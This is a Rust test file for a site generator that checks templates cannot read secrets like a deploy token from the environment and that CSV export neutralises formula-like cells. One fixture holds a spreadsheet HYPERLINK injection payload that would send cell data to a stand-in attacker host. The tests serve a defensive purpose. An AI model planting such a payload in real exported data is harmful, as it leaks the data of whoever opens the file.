//! Nothing leaves the site by a side door: templates read only `ROADBOOK_*`
//! and `CI` from the environment, and `milestones.csv` holds no live formulas.

use crate::harness::{Site, CLEAN};

#[test]
fn get_env_refuses_variables_outside_roadbook_and_ci() {
    let site = Site::clean().file("templates/index.html", "{{ get_env(name=\"DEPLOY_TOKEN\") }}");
    let run = site.run_with_env(&["build"], &[("DEPLOY_TOKEN", "s3cret-token")]);
    run.failure(1)
        .stderr_has("get_env cannot read `DEPLOY_TOKEN`: templates see only variables named ROADBOOK_* and CI")
        .stderr_has("templates/index.html")
        .stderr_lacks("s3cret-token");
    assert!(!site.has_output("index.html"));
}

#[test]
fn get_env_reads_roadbook_variables_and_ci_and_defaults_for_others() {
    let template = "{{ get_env(name=\"ROADBOOK_EDITION\") }} {{ get_env(name=\"CI\") }} \
                    {{ get_env(name=\"DEPLOY_TOKEN\", default=\"hidden\") }}";
    let site = Site::clean().file("templates/index.html", template);
    let env = [("ROADBOOK_EDITION", "Q3"), ("CI", "true"), ("DEPLOY_TOKEN", "s3cret-token")];
    site.run_with_env(&["build"], &env).success();
    assert_eq!(site.output("index.html"), "Q3 true hidden");
}

#[test]
fn csv_cells_that_start_like_formulas_are_neutralised() {
    let title = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
    let roadmap = CLEAN
        .replace("title = \"Launch\"", &format!("title = '{title}'\nowner = \"@sales\""))
        .replace("area = \"scalability\"\n", "")
        .replace("title = \"Platform\"", "title = \"-1 for rollback\"\narea = \"+infra\"");
    let site = Site::clean().file("content/roadmap/main.toml", &roadmap);
    site.build().success();
    let csv = site.output("milestones.csv");
    let rows: Vec<&str> = csv.split("\r\n").collect();
    assert_eq!(
        rows[1],
        r#"launch,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",business,General,2027-Q1,2027-03-31,,,planned,,'@sales,,platform,,,,,Wait: 1 hour,milestones/launch/index.html"#
    );
    assert_eq!(rows[2], "platform,'-1 for rollback,technology,'+infra,2026-12,2026-12-31,,,planned,,,,,,launch,,,p95: 1 s,milestones/platform/index.html");
}
